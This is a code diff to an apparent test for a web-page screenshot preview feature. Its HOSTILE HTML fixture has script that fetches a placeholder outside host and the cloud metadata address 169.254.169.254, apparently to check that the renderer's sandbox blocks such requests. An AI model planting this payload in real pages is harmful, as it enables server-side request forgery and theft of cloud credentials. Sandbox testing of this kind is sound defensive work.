@@ -5,9 +5,10 @@ import time
 from honk.previews import screenshots
 from honk.previews.previews import Previews
 
+# the picture is taken when the page has loaded, and `/posted` is answered once the script has posted what it found out
 HOSTILE = """<!doctype html><title>x</title><h1>hello</h1>
 <link rel="preconnect" href="{there}"><link rel="prefetch" href="{there}/prefetch"><img src="{there}/image">
-<iframe src="{there}/frame"></iframe><script>
+<iframe src="{there}/frame"></iframe><img src="/posted"><script>
 const there = "{there}", tries = [
   fetch(there + "/fetch", {{mode: "no-cors"}}),
   fetch("http://169.254.169.254/latest"),
